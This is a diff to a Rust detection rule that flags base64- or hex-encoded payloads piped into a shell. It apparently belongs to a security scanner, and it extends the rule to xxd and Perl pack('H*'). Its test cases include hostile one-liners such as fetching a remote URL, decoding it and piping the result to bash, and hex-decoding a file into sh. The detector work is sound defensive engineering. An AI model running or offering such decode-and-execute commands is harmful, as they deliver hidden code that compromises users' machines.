@@ -25,15 +25,27 @@ use super::{pipes_into_runner, runs_stdin, Segment, Sink, CMD_END, INTERPRETERS,
 use crate::rules::RuleId;
 use crate::text;
 
-pub(super) const ANCHORS: &[&str] =
-    &["base64", "b64decode", "decodebytes", "decodestring", "atob", "frombase64string", "powershell", "pwsh"];
+pub(super) const ANCHORS: &[&str] = &[
+    "base64",
+    "b64decode",
+    "decodebytes",
+    "decodestring",
+    "atob",
+    "frombase64string",
+    "powershell",
+    "pwsh",
+    "xxd",
+    "\"h*\"",
+    "'h*'",
+];
 
 /// Shortest base64 literal that counts as "long" (30 decoded bytes).
 const MIN_LITERAL: usize = 40;
 
 /// A base64 decoder on the command line: `base64 -d`, `-D` (macOS),
-/// `--decode`, `-di`, `openssl base64 -d`, `openssl enc -base64 -d`.
-const DECODER: &str = r"(?:(?-u:\b)base64(?:[ \t]+-[A-Za-z0-9-]+)*?[ \t]+(?:-[A-Za-z]*[dD][A-Za-z]*|--decode)|(?-u:\b)openssl[ \t]+(?:enc[ \t]+)?-?base64(?:[ \t]+-[A-Za-z0-9-]+)*?[ \t]+-d)";
+/// `--decode`, `-di`, `openssl base64 -d`, `openssl enc -base64 -d`; and
+/// hex's: `xxd -r -p`, a Perl one-liner printing `pack("H*", …)`.
+const DECODER: &str = r#"(?:(?-u:\b)base64(?:[ \t]+-[A-Za-z0-9-]+)*?[ \t]+(?:-[A-Za-z]*[dD][A-Za-z]*|--decode)|(?-u:\b)openssl[ \t]+(?:enc[ \t]+)?-?base64(?:[ \t]+-[A-Za-z0-9-]+)*?[ \t]+-d|(?-u:\b)xxd(?:[ \t]+-[A-Za-z0-9-]+)*?[ \t]+-r[A-Za-z]*|(?-u:\b)perl[ \t][^|\n]*?pack[ \t]*\(?[ \t]*["']H\*["'][^|\n]*)"#;
 
 struct Patterns {
     /// `echo '<long base64>' | base64 -d`.
@@ -335,6 +347,8 @@ mod tests {
             "echo \"$PAYLOAD\" | base64 -d | sh".to_owned(),
             "curl -s https://x.example/p | base64 --decode | gunzip | bash".to_owned(),
             "openssl base64 -d -in p.txt | sh".to_owned(),
+            "xxd -r -p tests/fixtures/block.hex | sh".to_owned(),
+            "@perl -e 'local $$/; $$_=<>; s/\\s+//g; print pack(\"H*\",$$_)' tests/f.hex | sh 2>/dev/null || true".to_owned(),
             "eval \"$(echo \"$P\" | base64 --decode)\"".to_owned(),
             "bash -c \"$(base64 -d payload.txt)\"".to_owned(),
             "exec(base64.b64decode(payload))".to_owned(),
@@ -383,6 +397,8 @@ mod tests {
             "powershell -ExecutionPolicy Bypass -File setup.ps1".to_owned(),
             "echo '$B64' | base64 -d | jq .".to_owned(),
             "echo x | base64 -d | python3 -m json.tool".to_owned(),
+            "xxd -r -p fixture.hex > /tmp/fixture.bin".to_owned(),
+            "xxd -r -p dump.hex | hexdump -C | less".to_owned(),
             "pattern = re.compile(base64.b64decode(p).decode())".to_owned(),
             "const m = /x/.exec(atob(s));".to_owned(),
             "powershell -ExecutionPolicy Bypass -EncodedCommand $encoded".to_owned(),
